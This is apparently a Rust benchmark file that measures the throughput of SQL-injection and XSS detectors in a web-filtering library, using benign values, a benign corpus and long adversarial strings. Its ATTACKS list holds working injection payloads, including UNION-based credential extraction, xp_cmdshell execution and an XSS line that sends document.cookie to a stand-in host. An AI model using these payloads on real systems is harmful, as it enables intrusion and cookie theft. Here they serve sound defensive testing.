//! Throughput of `detect_sqli` / `detect_xss` in MB/s, on typical argument values (benign
//! and attack) and on a few long adversarial runs. A plain `harness = false` bench:
//!
//! ```text
//! cargo bench -p palisade-injection --bench detect
//! ```
//!
//! Each set is run for about half a second per detector; the figure is input bytes over
//! wall time of the fastest of three rounds (the least disturbed by other load).

use std::hint::black_box;
use std::time::{Duration, Instant};

use palisade_injection::{detect_sqli, detect_xss, port_sqli, sqli_engine};

/// Values an application commonly receives in query strings, forms and JSON.
const BENIGN: &[&str] = &[
    "42",
    "john.doe@example.com",
    "en-US",
    "2024-11-30T09:15:00Z",
    "red running shoes size 42",
    "O'Reilly Media",
    "Tom & Jerry's \"best\" episodes",
    "https://www.example.com/products/view?id=1234&ref=home",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
    "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "Hi team, please find the quarterly report attached. Let me know if you have questions or comments before Friday.",
    "<p>Thanks for the <b>quick</b> reply! See <a href=\"https://example.com/faq\">the FAQ</a>.</p>",
    "{\"cart\":[{\"sku\":\"A-100\",\"qty\":2},{\"sku\":\"B-200\",\"qty\":1}]}",
    "select your preferred delivery date or pick up in store",
];

/// Typical injection attempts.
const ATTACKS: &[&str] = &[
    "1' or '1'='1",
    "-1 UNION SELECT username,password FROM users--",
    "1 AND SLEEP(5)",
    "'; exec master..xp_cmdshell 'dir'--",
    "1' AND extractvalue(1,concat(0x7e,version()))-- -",
    "<script>alert(document.cookie)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=fetch('//evil.example/'+document.cookie)>",
    "<a href=\"javascript:alert(1)\">click</a>",
];

fn repeat(unit: &str, len: usize) -> String {
    unit.repeat(len / unit.len() + 1)[..len].to_string()
}

fn mb_per_s(values: &[Vec<u8>], f: &dyn Fn(&[u8]) -> bool) -> f64 {
    let bytes: usize = values.iter().map(Vec::len).sum();
    let mut best = Duration::MAX;
    for _ in 0..3 {
        let start = Instant::now();
        let mut rounds = 0u32;
        while start.elapsed() < Duration::from_millis(150) || rounds == 0 {
            for v in values {
                black_box(f(black_box(v)));
            }
            rounds += 1;
        }
        best = best.min(start.elapsed() / rounds);
    }
    bytes as f64 / best.as_secs_f64() / 1e6
}

fn report(name: &str, values: Vec<Vec<u8>>) {
    let sqli = mb_per_s(&values, &|v| detect_sqli(v).is_some());
    // the SQLi engine alone (no shortcuts), ours and the `libinjectionrs` port it replaced
    let engine = mb_per_s(&values, &|v| sqli_engine(v).is_some());
    let port = mb_per_s(&values, &|v| port_sqli(v).is_some());
    let xss = mb_per_s(&values, &|v| detect_xss(v));
    let avg = values.iter().map(Vec::len).sum::<usize>() / values.len().max(1);
    println!(
        "{name:<28} {:>5} values, avg {avg:>6} B: detect_sqli {sqli:>8.1} MB/s  \
         engine {engine:>7.1} (port {port:>6.1}, {:>4.1}x)  detect_xss {xss:>8.1} MB/s",
        values.len(),
        engine / port
    );
}

/// Every argument value (query, form, JSON leaf, multipart field) of the project's benign
/// corpus, percent-decoded once as the request model does: a realistic mix of short and
/// long values. Empty when the corpus is not there.
fn corpus_args() -> Vec<Vec<u8>> {
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../corpus/benign");
    let mut out = Vec::new();
    let Ok(entries) = std::fs::read_dir(&dir) else {
        return out;
    };
    for entry in entries.flatten() {
        let text = std::fs::read_to_string(entry.path()).unwrap_or_default();
        for line in text.lines() {
            let Ok(v) = serde_json::from_str::<serde_json::Value>(line) else {
                continue;
            };
            let field = |k: &str| v.get(k).and_then(|x| x.as_str()).unwrap_or("").to_string();
            let mut headers = palisade_http::Headers::default();
            if let Some(h) = v.get("headers").and_then(|h| h.as_object()) {
                for (k, val) in h {
                    headers.push(k.clone(), val.as_str().unwrap_or("").as_bytes().to_vec());
                }
            }
            let method = field("method");
            let mut model = palisade_http::RequestModel::from_head(
                if method.is_empty() { "GET" } else { &method },
                &field("path"),
                "HTTP/1.1",
                headers,
            );
            let body = field("body");
            if !body.is_empty() && v.get("body_base64").is_none() {
                model.attach_body(body.into_bytes(), false);
            }
            out.extend(model.args().map(|(_, a)| a.value.to_vec()));
        }
    }
    out
}

fn main() {
    // `cargo test --benches` runs bench binaries with `--bench` absent; keep that quick.
    if !std::env::args().any(|a| a == "--bench") {
        report("smoke", vec![b"1' or '1'='1".to_vec()]);
        return;
    }
    let bytes = |set: &[&str]| {
        set.iter()
            .map(|s| s.as_bytes().to_vec())
            .collect::<Vec<_>>()
    };
    report("benign argument values", bytes(BENIGN));
    let corpus = corpus_args();
    if !corpus.is_empty() {
        let engine_runs: Vec<Vec<u8>> = corpus
            .iter()
            .filter(|v| palisade_injection::sqli_runs_engine(v))
            .cloned()
            .collect();
        report("corpus/benign ARGS", corpus);
        report("  those reaching the engine", engine_runs);
    }
    report("attack argument values", bytes(ATTACKS));
    // letters and spaces only: what `is_plain_phrase` reads word by word
    report(
        "benign 2 KiB plain phrase",
        vec![repeat("the quick brown fox jumps over the lazy dog ", 2048).into_bytes()],
    );
    report(
        "benign 4 KiB prose",
        vec![repeat("The quick brown fox jumps over the lazy dog. ", 4096).into_bytes()],
    );
    for (name, unit) in [
        ("adversarial 64 KiB '=' run", "="),
        ("adversarial 64 KiB '<a>' run", "<a>"),
        ("adversarial 64 KiB \\' run", "\\'"),
    ] {
        report(name, vec![repeat(unit, 64 * 1024).into_bytes()]);
    }
}
